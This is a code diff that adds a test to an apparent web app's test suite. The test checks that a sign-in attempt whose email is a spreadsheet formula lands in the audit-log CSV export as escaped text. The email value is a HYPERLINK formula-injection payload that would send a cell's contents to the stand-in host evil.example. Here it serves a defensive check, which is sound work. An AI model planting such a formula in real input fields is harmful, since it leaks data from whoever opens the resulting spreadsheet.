@@ -53,3 +53,23 @@ test('administrators read, filter and export the audit log; others cannot', asyn
     assert.equal((await browser.get('/audit-log.csv')).statusCode, 403);
   }
 });
+
+test('a sign-in with a formula for an email reaches the audit CSV as text, not a formula', async (t) => {
+  const hub = await buildTestHub(t);
+  await withPartnership(hub);
+  const { browser: admin } = await signedIn(hub, 'administrator');
+  const stranger = new Browser(hub.app);
+  await stranger.get('/sign-in');
+  const email = '=HYPERLINK("http://evil.example/?x="&A1,"Click to continue")';
+  await stranger.post('/sign-in', { email, password: 'a wrong guess' });
+
+  const csv = await admin.get('/audit-log.csv');
+  assert.equal(csv.statusCode, 200);
+  const records = parse(csv.body, { columns: true }) as Record<string, string>[];
+  const failed = records.find((r) => r.action === 'sign_in.failed');
+  assert.ok(failed, 'the failed sign-in is in the export');
+  assert.equal(failed.actor, `'${email.toLowerCase()}`, 'the cell starts with an apostrophe, so a spreadsheet shows it as text');
+  for (const record of records) {
+    for (const [column, cell] of Object.entries(record)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${column} of ${record.action}`);
+  }
+});
